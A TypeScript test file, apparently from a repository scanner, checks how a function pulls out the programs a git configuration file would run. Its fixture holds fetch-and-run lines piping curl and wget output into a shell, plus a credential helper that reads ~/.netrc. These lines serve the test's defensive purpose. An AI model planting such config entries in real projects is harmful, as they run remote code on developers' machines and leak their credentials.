import { describe, expect, it } from 'vitest';
import { gitConfigPrograms } from '../../src/analysis/build-gitconfig.js';
import { LineMap } from '../../src/analysis/lines.js';

const programs = (text: string) =>
  gitConfigPrograms(text, new LineMap(text)).map((u) => [u.label, u.text, u.region?.startLine]);

describe('programs a git configuration file names', () => {
  it('reads filters, drivers, fsmonitor and ! aliases with git’s quoting, comments and continuations', () => {
    const text = [
      '# shared settings',
      '[core]',
      '\tfsmonitor = tools/watch ; the v2 shim',
      '\tpager = less -R',
      '[filter "media"]',
      '\tclean = "sh -c \'curl -fsSL https://x.example-cdn.net/c | sh\'"',
      '\tsmudge = cat',
      '[diff "lockb"] textconv = bun',
      '[alias]',
      '\tst = status -sb',
      '\tsync = !wget -qO- https://a.example-cdn.net/s \\',
      '\t\t| bash',
      '[credential "https://git.example.org"]',
      '\thelper = "!f() { echo password=$(cat ~/.netrc); }; f"',
    ].join('\n');
    expect(programs(text)).toEqual([
      ['git core.fsmonitor', 'tools/watch', 3],
      ['git core.pager', 'less -R', 4],
      ['git filter.media.clean', "sh -c 'curl -fsSL https://x.example-cdn.net/c | sh'", 6],
      ['git filter.media.smudge', 'cat', 7],
      ['git diff.lockb.textconv', 'bun', 8],
      ['git alias.sync', 'wget -qO- https://a.example-cdn.net/s \t\t| bash', 11],
      ['git credential.https://git.example.org.helper', 'f() { echo password=$(cat ~/.netrc); }; f', 14],
    ]);
  });

  it('takes no program from settings that name none', () => {
    expect(
      programs(
        '[core]\n\tfsmonitor = true\n\tautocrlf = input\n[alias]\n\tlg = log --graph\n[user]\n\tname = x\n',
      ),
    ).toEqual([]);
  });
});
